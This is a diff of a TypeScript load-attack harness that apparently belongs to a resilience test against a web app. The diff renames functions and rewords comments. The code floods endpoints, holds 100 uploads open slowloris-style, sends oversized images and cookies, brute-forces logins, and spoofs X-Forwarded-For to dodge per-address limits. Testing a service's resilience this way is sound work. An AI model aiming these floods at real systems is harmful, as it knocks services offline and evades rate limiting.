@@ -14,9 +14,9 @@ interface Flood {
 }
 
 const MEBIBYTE = 1024 * 1024;
-const MAX_MS = 60_000;
+const MAX_DURATION_MS = 60_000;
 const ATTACKING_ADDRESSES = 50;
-/** Uploads need an account. Many accounts, because each may send ten in ten minutes, one at a time. */
+/** Uploads need an account, and each account may send ten in ten minutes, one at a time. */
 const ATTACKERS = 100;
 const LARGE_BODY = new Uint8Array(29 * MEBIBYTE);
 /** Just below the limit of an avatar: 2.99 MB. */
@@ -24,14 +24,15 @@ const GIF = tinyFramesGif(130_000);
 const HEIC = tiledHeic(31);
 
 /**
- * Sends all floods at the same time, for at most a minute, and keeps uploads open that never continue. Resolves with
+ * Sends all floods at the same time, for at most a minute, and holds uploads open that never complete. Resolves with
  * the number of requests.
  */
 export async function sendFloods(target: Target): Promise<number> {
   const floods = toFloods(target);
   const slow = await Promise.all(Array.from({ length: 100 }, (_, turn) => openSlowUpload(target, turn)));
   try {
-    const sent = await Promise.all(floods.map((flood) => sendFlood(flood, performance.now() + MAX_MS)));
+    const until = performance.now() + MAX_DURATION_MS;
+    const sent = await Promise.all(floods.map((flood) => sendFlood(flood, until)));
     return sent.reduce((sum, count) => sum + count, slow.length);
   } finally {
     for (const socket of slow) socket.destroy();
@@ -41,16 +42,16 @@ export async function sendFloods(target: Target): Promise<number> {
 function toFloods(target: Target): readonly Flood[] {
   const { url } = target.product;
   const get = (path: string, turn: number, cookie = "") =>
-    send(url + path, { headers: { cookie, ...from(turn) } });
+    send(url + path, { headers: { cookie, ...addressHeader(turn) } });
   const upload = (turn: number, bytes: Uint8Array<ArrayBuffer>) => {
     const body = new FormData();
     body.append("file", new File([bytes], "a"));
-    const headers = { cookie: target.event.getCookie(1 + (turn % ATTACKERS)), ...from(turn) };
+    const headers = { cookie: target.event.getCookie(1 + (turn % ATTACKERS)), ...addressHeader(turn) };
     return send(`${url}/api/account/avatar`, { method: "PUT", headers, body });
   };
   const signIn = (turn: number) => {
     const body = JSON.stringify({ userName: `player${1 + (turn % 100)}`, password: "Wrong-password-1" });
-    const headers = { "content-type": "application/json", ...from(turn) };
+    const headers = { "content-type": "application/json", ...addressHeader(turn) };
     return send(`${url}/api/account/login`, { method: "POST", headers, body });
   };
   const randomCookie = () => `gonfalon_session=${randomBytes(32).toString("base64url")}`;
@@ -65,7 +66,7 @@ function toFloods(target: Target): readonly Flood[] {
       send: (turn) => get("/api/account/profile", turn, turn % 2 === 0 ? randomCookie() : longCookie()),
     },
     { times: 10_000, concurrency: 16, send: (turn) => get("/openapi", turn) },
-    { times: 1000, concurrency: 50, send: (turn) => refusedUpgrade(target, turn) },
+    { times: 1000, concurrency: 50, send: (turn) => sendRejectedUpgrade(target, turn) },
     { times: 500, concurrency: 20, send: signIn },
   ];
 }
@@ -85,33 +86,33 @@ async function send(url: string, init: RequestInit): Promise<void> {
   await reply?.arrayBuffer().catch(() => undefined);
 }
 
-/** The server trusts loopback as a proxy. */
-function from(turn: number): Readonly<Record<string, string>> {
+/** The server trusts loopback as a proxy, so it uses this header as the address of the client. */
+function addressHeader(turn: number): Readonly<Record<string, string>> {
   return { "x-forwarded-for": `203.0.113.${turn % ATTACKING_ADDRESSES}` };
 }
 
-async function refusedUpgrade({ product }: Target, turn: number): Promise<void> {
+async function sendRejectedUpgrade({ product }: Target, turn: number): Promise<void> {
   const socket = await open(product.url);
   const headers = {
-    ...from(turn),
+    ...addressHeader(turn),
     connection: "Upgrade",
     upgrade: "websocket",
     "sec-websocket-version": "13",
   };
-  socket.write(head("GET /hub/admin", headers));
+  socket.write(requestHead("GET /hub/admin", headers));
   await once(socket, "close");
 }
 
-/** From an account that does not send other uploads, because they would wait for this one. */
+/** Uses an account that sends no other uploads, because those would wait for this one. */
 async function openSlowUpload({ product, event }: Target, turn: number): Promise<Socket> {
   const socket = await open(product.url);
   const headers = {
-    ...from(turn),
+    ...addressHeader(turn),
     cookie: event.getCookie(1 + ATTACKERS + turn),
     "content-type": "multipart/form-data; boundary=x",
     "content-length": String(MEBIBYTE),
   };
-  socket.write(head("PUT /api/account/avatar", headers));
+  socket.write(requestHead("PUT /api/account/avatar", headers));
   socket.write('--x\r\ncontent-disposition: form-data; name="file"; filename="a"\r\n\r\nunfinished');
   return socket;
 }
@@ -123,7 +124,7 @@ async function open(url: string): Promise<Socket> {
   return socket.on("error", () => undefined).resume();
 }
 
-function head(request: string, headers: Readonly<Record<string, string>>): string {
+function requestHead(request: string, headers: Readonly<Record<string, string>>): string {
   const lines = Object.entries({ host: "x", ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
   return `${request} HTTP/1.1\r\n${lines.join("")}\r\n`;
 }
